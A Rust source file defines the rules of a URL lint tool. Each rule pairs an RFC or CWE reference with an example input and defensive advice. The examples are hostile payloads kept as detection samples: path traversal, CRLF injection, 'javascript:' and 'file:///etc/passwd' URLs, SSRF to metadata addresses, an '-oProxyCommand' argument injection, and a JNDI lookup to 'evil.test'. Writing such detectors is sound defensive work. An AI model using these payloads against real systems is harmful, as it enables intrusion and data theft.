//! The rules of lint as data: each has a stable id, a severity, a reference and a message.
#![forbid(unsafe_code)]

use super::context::{Context, Severity};

/// Whether all rules are checked. Without the feature `all-rules`, the code and the tables of the others are left out by the
/// compiler, and so are their texts.
pub(super) const FULL: bool = cfg!(feature = "all-rules");

macro_rules! rules {
    (
        always { $($(#[$doc:meta])* $name:ident $id:literal $severity:ident $reference:literal $message:literal
            $context:ident $example:literal $advice:literal;)* }
        with_the_feature { $($(#[$more_doc:meta])* $more:ident $more_id:literal $more_severity:ident $more_reference:literal $more_message:literal
            $more_context:ident $more_example:literal $more_advice:literal;)* }
    ) => {
        /// A rule that [`lint`](crate::lint) checks. The documentation of each rule is an example of what it finds.
        #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
        #[non_exhaustive]
        pub enum Rule {
            $($(#[$doc])* $name,)*
            $($(#[$more_doc])* $more,)*
        }

        impl Rule {
            /// All rules that are checked. Without the feature `all-rules` these are fewer.
            pub const ALL: &'static [Rule] = match FULL {
                true => &[$(Rule::$name,)* $(Rule::$more,)*],
                false => &[$(Rule::$name,)*],
            };

            /// Whether the rule is checked only with the feature `all-rules`.
            pub(super) const fn needs_feature(self) -> bool {
                match self {
                    $(Rule::$name => false,)*
                    $(Rule::$more => true,)*
                }
            }

            /// The stable name, for programs, such as `double-encoding`.
            #[must_use]
            pub const fn id(self) -> &'static str {
                match self {
                    $(Rule::$name => $id,)*
                    // Without the feature no finding has one of the others.
                    _ if !FULL => "",
                    $(Rule::$more => $more_id,)*
                }
            }

            /// What a finding of this rule means, for a person.
            #[must_use]
            pub const fn message(self) -> &'static str {
                match self {
                    $(Rule::$name => $message,)*
                    // Without the feature no finding has one of the others.
                    _ if !FULL => "",
                    $(Rule::$more => $more_message,)*
                }
            }

            /// The clause or the CWE entry that explains the rule.
            #[must_use]
            pub const fn reference(self) -> &'static str {
                match self {
                    $(Rule::$name => $reference,)*
                    // Without the feature no finding has one of the others.
                    _ if !FULL => "",
                    $(Rule::$more => $more_reference,)*
                }
            }

            /// What to do about a finding.
            #[must_use]
            pub const fn advice(self) -> &'static str {
                match self {
                    $(Rule::$name => $advice,)*
                    // Without the feature no finding has one of the others.
                    _ if !FULL => "",
                    $(Rule::$more => $more_advice,)*
                }
            }

            /// A text in which [`lint`](crate::lint) finds the rule, and its context.
            #[must_use]
            pub const fn example(self) -> (Context, &'static [u8]) {
                match self {
                    $(Rule::$name => (Context::$context, $example),)*
                    $(Rule::$more => (Context::$more_context, $more_example),)*
                }
            }

            const fn base_severity(self) -> Severity {
                match self {
                    $(Rule::$name => Severity::$severity,)*
                    _ if !FULL => Severity::Info,
                    $(Rule::$more => Severity::$more_severity,)*
                }
            }
        }
    };
}

rules! {
    always {
    /// `%zz`: a malformed triplet.
    MalformedEscape "malformed-escape" Error "RFC 3986 2.1" "a `%` without two hexadecimal digits; decoders refuse it, keep it or drop it"
        Path b"/100%" "Encode a percent sign that is text as `%25`.";
    /// `%u4E2D`.
    PercentU "percent-u" Warn "ECMA-262 B.2.1.1" "JavaScript's `%uXXXX`, which no URI may have; some servers decode it"
        Query b"q=%u4E2D" "Write the octets of UTF-8 as triplets: `%E4%B8%AD`.";
    /// `%2541`.
    DoubleEncoding "double-encoding" Warn "CWE-174" "encoded more than once: a decoder that decodes twice sees another text"
        Path b"/a%252Fb" "Decode exactly once, and check the text after that.";
    /// `%2525252541`: more layers than lint checks.
    LayerLimit "layer-limit" Error "CWE-174" "encoded more often than lint checks"
        Path b"/%25252525252541" "Refuse the text. No program writes that number of layers.";
    /// `%41`.
    OverEncoded "over-encoded" Info "RFC 3986 2.3" "an unreserved character needs no triplet; filters that compare text miss it"
        Path b"/%61dmin" "Normalize before you compare or filter: `triplet normalize`.";
    /// `%7e` and `%7E` in one text.
    LowercaseHex "lowercase-hex" Info "RFC 3986 2.1, 6.2.2.1" "the same octet is written in two ways; upper-case digits are the normal form"
        Path b"/%7e/%7E" "Write hexadecimal digits in upper case: `triplet normalize --level percent`.";
    /// `%2e%2e` as a segment.
    EncodedDotSegment "encoded-dot-segment" Error "RFC 3986 6.2.2.3, CWE-22" "an encoded dot segment: it goes up if a filter runs before the decoder"
        Path b"/a/%2e%2e/b" "Refuse it, or remove dot segments after decoding and check the result.";
    /// `..` as a segment.
    DotSegment "dot-segment" Info "RFC 3986 5.2.4, CWE-22" "a dot segment: what is opened is not what is written"
        Path b"/a/../b" "Resolve the path first, then check that it is still below the folder that you serve.";
    /// `..;` as a segment.
    DotSegmentPathParam "dot-segment-path-param" Error "RFC 3986 3.3, CWE-22" "a dot segment with a parameter: servers that strip parameters go up"
        Path b"/public/..;/admin" "Refuse it. Strip parameters before dot segments are removed, or never.";
    /// `%2F` or `%5C` in a path.
    EncodedSeparator "encoded-separator" Info "RFC 3986 2.2" "an encoded slash or backslash: a server that decodes first splits here"
        Path b"/a%2Fb" "Split the path before you decode its segments.";
    /// `%3F` or `%23` in a path, `%3D` in the name of a pair.
    EncodedDelimiter "encoded-delimiter" Info "RFC 3986 2.2" "an encoded delimiter: if decoded first, it ends the component"
        Path b"/a%3Fb" "Split the reference before you decode its components.";
    /// `%40` in a host.
    EncodedDelimiterInHost "encoded-delimiter-in-host" Error "RFC 3986 3.2.2, CWE-918" "an encoded character that no host may have: decoded, the host is another one"
        Url b"http://good.test%40evil.test/" "Refuse it: no registered name has such a character.";
    /// `%65xample.org`.
    OverEncodedHost "over-encoded-host" Warn "RFC 3986 2.3, CWE-918" "an encoded letter in the host: filters that compare hosts miss it"
        Url b"http://%65xample.org/" "Decode and compare hosts in their normal form.";
    /// `／` (U+FF0F).
    NfkcDelimiter "nfkc-delimiter" Info "UTS #46, CWE-180" "a character that compatibility normalisation turns into a delimiter"
        Url b"http://evil.test%EF%BC%8F.good.test/" "Normalize before you split or check, and refuse delimiters that appear.";
    /// `xn--.org`.
    InvalidAceLabel "invalid-ace-label" Error "RFC 5891 4.2" "a label with `xn--` that is not punycode"
        Host b"xn--a-.test" "Refuse the name: no registry has such a label.";
    /// `-` at the start of a host or a userinfo.
    LeadingDash "leading-dash" Error "CWE-88" "begins with `-`: a command reads it as an option"
        Host b"-oProxyCommand=x" "Refuse it, or pass `--` before it on a command line.";
    /// `%00`.
    NulByte "nul-byte" Error "CWE-158" "the octet NUL: where it ends strings, the rest is lost"
        Path b"/a.php%00.png" "Refuse it: no name of a file or a host has this octet.";
    /// `%2500`.
    NulByteNested "nul-byte-nested" Error "CWE-158, CWE-174" "the octet NUL, encoded more than once"
        Path b"/a%2500" "Refuse it, and decode exactly once.";
    /// `%0D` and `%0A`.
    Crlf "crlf" Error "CWE-93" "a line break: in a header or a log it begins a new line"
        Query b"lang=en%0D%0ALocation:%20x" "Refuse line breaks in everything that goes into a header or a line of a log.";
    /// Other control characters.
    ControlChar "control-char" Error "CWE-150" "a control character"
        Path b"/a%07" "Refuse it, or show it escaped.";
    /// ESC and CSI.
    TerminalEscape "terminal-escape" Error "CWE-150" "the start of a terminal's control sequence"
        Query b"q=%1B%5B2J" "Escape control characters before a terminal shows the text.";
    /// `Ċ` (U+010A).
    LossyNarrowing "lossy-narrowing" Info "CWE-197" "a character whose low byte is a line break: truncated to a byte, it becomes one"
        Query b"q=%C4%8A" "Encode characters as UTF-8. Never cut a code point to its low byte.";
    /// `%C0%AF`.
    OverlongUtf8 "overlong-utf8" Error "RFC 3629 3, 10" "a character in more bytes than it needs: forbidden, but some decoders accept it"
        Path b"/%C0%AF" "Refuse it. A decoder of UTF-8 that accepts it is broken.";
    /// `%ED%A0%80`.
    SurrogateUtf8 "surrogate-utf8" Error "RFC 3629 3" "half of a surrogate pair: CESU-8, not UTF-8"
        Path b"/%ED%A0%80" "Refuse it, or join the halves before you encode.";
    /// `%F4%90%80%80`.
    BeyondUnicode "beyond-unicode" Error "RFC 3629 3" "beyond U+10FFFF"
        Path b"/%F4%90%80%80" "Refuse it: there is no such character.";
    /// `%FF`, and all other octets that are not UTF-8.
    InvalidUtf8 "invalid-utf8" Warn "RFC 3629 3" "octets that are not UTF-8: another charset, or broken"
        Path b"/%FF" "Decode it with the charset of the page that sent it, or refuse it.";
    /// A raw `é`.
    RawNonAscii "raw-non-ascii" Info "RFC 3987 3.1" "a raw character outside ASCII: an IRI, not a URI"
        Path b"/caf\xC3\xA9" "Encode it: `triplet iri to-uri`.";
    /// A raw `\`.
    RawBackslash "raw-backslash" Warn "WHATWG URL 4.4" "a backslash: browsers read a slash, others do not"
        Url b"http://good.test\\@evil.test/" "Refuse it, or encode it as `%5C`.";
    /// U+202E.
    BidiControl "bidi-control" Error "RFC 3987 4.1" "a character that changes the direction of text: what is shown is not what is there"
        Path b"/photo%E2%80%AEgpj.exe" "Refuse it in names, and escape it where a person reads the text.";
    /// U+200B. Spaces other than U+0020 are found too, with [`Severity::Info`] outside a host.
    InvisibleChar "invisible-char" Warn "UTS #39" "an invisible character"
        Path b"/adm%E2%80%8Bin" "Refuse it in names, and escape it where a person reads the text.";
    /// `e` and U+0301.
    NotNfc "not-nfc" Info "RFC 3987 5.3.2.2" "a letter and its accent as two characters: looks like one, compares as two"
        Path b"/cafe%CC%81" "Normalize to NFC before you encode or compare.";
    /// `<script>`.
    HtmlMetachar "html-metachar" Warn "CWE-79" "a character that begins markup where text is not escaped"
        Path b"/%3Cscript%3E" "Escape the text where it enters markup.";
    /// `;` between pairs.
    SemicolonSeparator "semicolon-separator" Info "WHATWG URL 5.1" "a `;` that some decoders read as `&`"
        Form b"a=1;b=2" "Decide which separator is meant, and encode the other one.";
    /// `a=1&a=2`.
    DuplicateKey "duplicate-key" Info "CWE-235" "a name twice: some take the first, some the last, some both"
        Form b"a=1&a=2" "Decide which of the values counts, or refuse the second.";
    /// `+` and `%2B` in one text.
    PlusAmbiguity "plus-ambiguity" Info "WHATWG URL 5.1" "`+` and `%2B` in one text: the first is a space in a form, and a plus elsewhere"
        Form b"a=1+1&b=1%2B1" "Write a space as `%20` and a plus sign as `%2B`.";
    /// `__proto__`.
    ProtoKey "proto-key" Error "CWE-1321" "a name that reaches into JavaScript's prototypes"
        Form b"__proto__[x]=1" "Refuse the name, or keep the pairs in a map without a prototype.";
    /// `a[100000000]`.
    DeepOrHugeIndex "deep-or-huge-index" Error "CWE-770" "an index or a depth that makes a decoder allocate"
        Form b"a[4294967295]=1" "Limit depth and indexes before you build arrays.";
    /// `file::$DATA`.
    NtfsAds "ntfs-ads" Error "CWE-69" "a stream of an NTFS file: the same file under another name"
        Path b"/index.asp::$DATA" "Refuse colons in names of files.";
    /// `CON`.
    WindowsDevice "windows-device" Info "CWE-67" "the name of a device on Windows"
        Path b"/files/NUL" "Refuse the names of devices before you open a file.";
    }
    with_the_feature {
    // The grammar.
    /// `4files://a`: no scheme, but a colon in the first segment.
    InvalidScheme "invalid-scheme" Error "RFC 3986 3.1, 4.2" "a `:` before the first slash, but no scheme before it"
        Url b"4files://store.test/a" "Correct the scheme, or begin a relative path with `./`.";
    /// `http://:8080/`.
    EmptyHost "empty-host" Error "RFC 3986 3.2.2, RFC 9110 4.2.1" "the host is missing: programs take the next text for it"
        Url b"http://:8080/admin" "Write the host, or refuse the reference.";
    /// `http://h:80a/`, and ports above 65535.
    InvalidPort "invalid-port" Error "RFC 3986 3.2.3" "what follows the host is no port"
        Url b"http://shop.test:80a/" "Write a decimal number up to 65535, or refuse the reference.";
    /// `http://[::1/`, `http://[name]/`.
    InvalidIpLiteral "invalid-ip-literal" Error "RFC 3986 3.2.2" "brackets around a host are for an IPv6 address"
        Url b"http://[intranet.test]/" "Write an IPv6 address between both brackets, and names without brackets.";
    /// `a..b`, and labels longer than 63 octets.
    InvalidLabel "invalid-label" Warn "RFC 1034 3.1, RFC 1123 2.1" "a label that no name has: empty, too long, or with a hyphen at its end"
        Host b"a..b.test" "Refuse the name: DNS has no such label.";
    /// `"`, `{`, or a delimiter of another component.
    DisallowedChar "disallowed-char" Warn "RFC 3986 2" "a character that this component may not have as it is"
        Path b"/a\"b" "Encode it as a triplet.";
    /// A space in a path.
    RawSpace "raw-space" Warn "RFC 3986 2" "a space as it is: a line of HTTP or a log ends there"
        Path b"/a b" "Encode it as `%20`, and trim a reference that somebody typed.";
    /// A tab that is not a triplet.
    RawControl "raw-control" Error "RFC 3986 2" "a control character as it is; browsers drop tabs and line breaks"
        Url b"https://a.test/b\tc" "Refuse it, or encode it.";
    /// A raw 0xE9.
    RawByte "raw-byte" Error "RFC 3987 3.1" "a raw byte that is not UTF-8: neither a URI nor an IRI"
        Path b"/caf\xE9" "Find the charset of the text, and encode its octets.";
    // Schemes.
    /// `javascript:` in any spelling, `data:text/html`.
    ScriptScheme "script-scheme" Error "CWE-79, WHATWG HTML 7.4.2" "a scheme whose target is run as a script or shown as a page of yours"
        Url b"javascript:alert(document.cookie)" "Allow http, https and mailto by name, and compare after controls and entities are removed.";
    /// `gopher:`, `dict:`, `file:`, `jar:`.
    FetcherScheme "fetcher-scheme" Warn "CWE-918" "a scheme that libraries fetch or run beside http"
        Query b"src=file:///etc/passwd" "Allow the schemes that you need by name.";
    // Which host is it?
    /// `https:evil.test`, `https:///evil.test`.
    WrongSlashes "wrong-slashes" Warn "WHATWG URL 4.4, CWE-601" "a scheme with a host, but not two slashes: browsers correct it, others do not"
        Url b"https:evil.test/path" "Write two slashes, or refuse the reference.";
    /// `https://bank.test@evil.test/`.
    MisleadingUserinfo "misleading-userinfo" Warn "RFC 3986 7.6, CWE-1007" "a userinfo that looks like a host: the host comes after the `@`"
        Url b"https://accounts.bank.test@evil.test/login" "Show the host alone, and refuse a userinfo in links.";
    /// `user:secret@`.
    Credentials "credentials-in-userinfo" Info "RFC 3986 3.2.1, 7.5, CWE-522" "a password in the reference: logs and histories keep it"
        Url b"https://user:secret@example.com/" "Send credentials in a header.";
    /// `http://evil.test#@good.test/`.
    AtSignAfterHost "at-sign-after-host" Info "RFC 3986 3.2, CWE-918" "the host ends at a `?` or `#` that other parsers read as part of it"
        Url b"http://evil.test#@good.test/" "Use one parser for the check and for the request.";
    /// `2130706433`, `0x7f.1`, `127.1`.
    NumericHost "numeric-host" Warn "WHATWG URL 3.5, RFC 3986 7.4, CWE-918" "an IPv4 address in an unusual form: filters that compare text miss it"
        Url b"http://2130706433/" "Write four decimal numbers, and check the address that was resolved.";
    /// `127.0.0.1`, `localhost`, `[fd00::1]`.
    PrivateHost "private-host" Info "RFC 6890, RFC 6761, CWE-918" "a loopback, private, link-local or other address that is not public"
        Query b"url=http://127.0.0.1:8080/admin" "Check the address that was resolved, and refuse addresses that are not public.";
    /// `[::ffff:127.0.0.1]`, `127.0.0.1.nip.io`.
    EmbeddedIpv4 "embedded-ipv4" Warn "RFC 4291 2.5.5, RFC 6052, CWE-918" "an IPv4 address within an IPv6 address or a name"
        Url b"http://[::ffff:169.254.169.254]/" "Check the embedded address too.";
    /// `[fe80::1%25eth0]`, with [`Severity::Info`] for a link-local address and a plain zone.
    ZoneId "zone-id" Warn "RFC 6874, RFC 9844" "a zone of an IPv6 address: parsers disagree where it ends"
        Url b"http://[::1%25.example.com]/" "Refuse zones in references that come from outside.";
    // Values.
    /// `next=https://example.com/`.
    UrlInValue "url-in-value" Info "CWE-601, CWE-918" "a reference as a value: a redirect or a request may follow it"
        Query b"next=https://example.com/" "Compare its origin with a list before you follow it.";
    /// `next=//evil.test`, `next=/\evil.test`.
    SchemeRelativeValue "scheme-relative-value" Warn "RFC 3986 4.2, CWE-601" "a value that looks like a path, but names a host"
        Query b"next=//evil.test/x" "Resolve it first, then compare the origin.";
    /// `//evil.test` as a path.
    NetworkPath "network-path" Warn "RFC 3986 3.3, 4.2, CWE-601" "a path that begins with two slashes: as a reference it names a host"
        Path b"//evil.test/x" "Remove all slashes but one before you redirect to it.";
    // Names.
    /// A Cyrillic letter among Latin ones.
    MixedScript "mixed-script" Warn "UTS #39 5.1, 5.2" "letters of scripts that no language mixes in a name"
        Host b"p\xD0\xB0ypal.test" "Show the name in Punycode.";
    /// `xn--80ak6aa92e.com`.
    ConfusableLabel "confusable-label" Info "UTS #39 4" "all letters of a label look like letters of ASCII"
        Host b"xn--80ak6aa92e.com" "Show the name in Punycode.";
    /// `faß.de`.
    IdnaDeviation "idna-deviation" Info "UTS #46 4" "a character that IDNA 2003 and IDNA 2008 map in different ways"
        Host b"fa\xC3\x9F.de" "Resolve the A-label, and compare A-labels.";
    /// `evil。test`.
    IdnaDot "idna-dot" Info "UTS #46 2.3" "a full stop of another script, which IDNA reads as a dot"
        Host b"evil\xE3\x80\x82test" "Map the name before you split it into labels.";
    /// U+2215 in a host.
    ConfusableDelimiter "confusable-delimiter" Warn "UTS #39 4, CWE-1007" "a character that looks like a delimiter"
        Host b"good.test\xE2\x88\x95a.evil.test" "Show the name in Punycode.";
    /// `ı`, `ſ`, the Kelvin sign.
    CaseFold "case-fold" Info "UTS #46 2, CWE-178" "a character that becomes ASCII when its case is changed"
        Path b"/adm%C4%B1n" "Compare without changing case, or fold before you check.";
    /// `ａ`, `①`, `＂`.
    CompatChar "compat-char" Info "UAX #15, CWE-180" "a character that becomes ASCII by compatibility normalisation"
        Path b"/%EF%BD%81dmin" "Normalize before you check, not after.";
    /// U+2212, which becomes `-`.
    BestFitChar "best-fit-char" Info "CWE-176" "a character that code pages of Windows replace by one that programs act on"
        Query b"%E2%88%92d+a%3Db" "Call the interfaces for Unicode, and check the text as it is passed on.";
    // Octets.
    /// `%E4%B8`.
    TruncatedUtf8 "truncated-utf8" Warn "RFC 3629 3, Unicode 3.9" "the first octets of a character, but not all: the text was cut"
        Path b"/a/%E4%B8" "Cut texts between characters.";
    /// U+FDD0, U+FFFE.
    Noncharacter "noncharacter" Warn "Unicode 23.7" "a code point that is never a character"
        Path b"/%EF%B7%90" "Refuse it.";
    /// `+ADw-`.
    Utf7 "utf-7" Info "RFC 2152, CWE-79" "UTF-7, in which markup passes filters"
        Any b"+ADw-script+AD4-" "Send a charset with every page.";
    // Layers and paths.
    /// `%%35c`.
    NestedTriplet "nested-triplet" Warn "CWE-174" "a triplet that only a second decoding completes"
        Path b"/..%%35c" "Decode exactly once, and refuse malformed triplets.";
    /// `//` within a path.
    EmptySegment "empty-segment" Info "RFC 3986 3.3" "an empty segment: some programs merge slashes, others do not"
        Path b"/data//secret" "Compare paths in the form in which they are opened.";
    /// `;x=1` in a segment.
    PathParameter "path-parameter" Info "RFC 3986 3.3" "a parameter of a segment: some programs remove it before they compare"
        Path b"/admin;x=1/users" "Compare the path as the program reads it that answers.";
    /// `/index.php.`.
    WindowsTrailing "windows-trailing" Info "CWE-42, CWE-46" "a dot or a space at the end of a name, which Windows drops"
        Path b"/index.php." "Remove them before you compare, or refuse them.";
    /// `/PROGRA~1`.
    WindowsShortName "windows-short-name" Info "CWE-58" "a short name of Windows: the same file under another name"
        Path b"/PROGRA~1/a" "Refuse such names, or compare the long name.";
    /// `/C:/windows`.
    WindowsDrive "windows-drive" Info "CWE-39" "a drive of Windows: joined to a folder, it replaces the folder"
        Path b"/C:/windows/win.ini" "Refuse a colon in the first segment.";
    // Forms.
    /// More than 1,000 pairs.
    FieldLimit "field-limit" Warn "CWE-770" "more pairs than common frameworks read; what follows is dropped or refused"
        Form b"a&" "Limit the number of pairs, and refuse more.";
    /// `class.classLoader.x`, `_SESSION[x]`.
    ObjectGraphName "object-graph-name" Warn "CWE-915, CWE-470" "a name that binders follow into objects of the program or its global variables"
        Form b"class.module.classLoader.x=1" "Bind the names that you expect, and no others.";
    /// `password[$ne]=x`.
    QueryOperator "query-operator" Info "CWE-943" "a name with an operator of a database"
        Form b"password[$ne]=x" "Require that the value is text.";
    /// `${jndi:…}`, `{{7*7}}`.
    Expression "expression" Info "CWE-917, CWE-1336" "an expression of a template or of a logger"
        Query b"x=${jndi:ldap://evil.test/a}" "Never expand text that comes from outside.";
    }
}

impl Rule {
    /// The rule with this [`id`](Rule::id).
    #[must_use]
    pub fn by_id(id: &str) -> Option<Rule> {
        Rule::ALL.iter().copied().find(|rule| rule.id() == id)
    }

    /// How bad a finding of this rule is in a context. A few findings are less or more severe because of the
    /// characters around them: see [`Finding::severity`](super::Finding::severity).
    #[must_use]
    pub fn severity(self, context: Context) -> Severity {
        match self {
            // A URI in a query is encoded twice, and people search for any text.
            Rule::DoubleEncoding | Rule::HtmlMetachar if context.is_free_text() => Severity::Info,
            // Old pages send other charsets there, and queries are often cut.
            Rule::InvalidUtf8 if context.is_free_text() => Severity::Info,
            // Values that people write have line breaks: see `Linter::line_break`.
            Rule::Crlf if context.is_free_text() && FULL => Severity::Warn,
            Rule::Crlf | Rule::ControlChar if context.is_free_text() && !FULL => {
                if matches!(self, Rule::Crlf) || context == Context::Form {
                    Severity::Info
                } else {
                    Severity::Error
                }
            }
            Rule::ControlChar if context == Context::Form => Severity::Warn,
            Rule::NfkcDelimiter | Rule::EncodedSeparator | Rule::InvisibleChar
                if context == Context::Host =>
            {
                Severity::Error
            }
            _ if !FULL => self.base_severity(),
            Rule::TruncatedUtf8 if context.is_free_text() => Severity::Info,
            // Programs leave such characters as they are there, and it works.
            Rule::DisallowedChar | Rule::RawSpace if context.is_free_text() => Severity::Info,
            Rule::DisallowedChar | Rule::RawSpace if context.is_authority() => Severity::Error,
            Rule::CompatChar | Rule::BestFitChar if context == Context::Host => Severity::Warn,
            // As a whole reference it is what somebody wants to open.
            Rule::FetcherScheme if context == Context::Url => Severity::Info,
            Rule::ScriptScheme if context.is_free_text() => Severity::Warn,
            // As a value it is what a server may open.
            Rule::PrivateHost if context.is_free_text() || context == Context::Any => {
                Severity::Warn
            }
            _ => self.base_severity(),
        }
    }
}
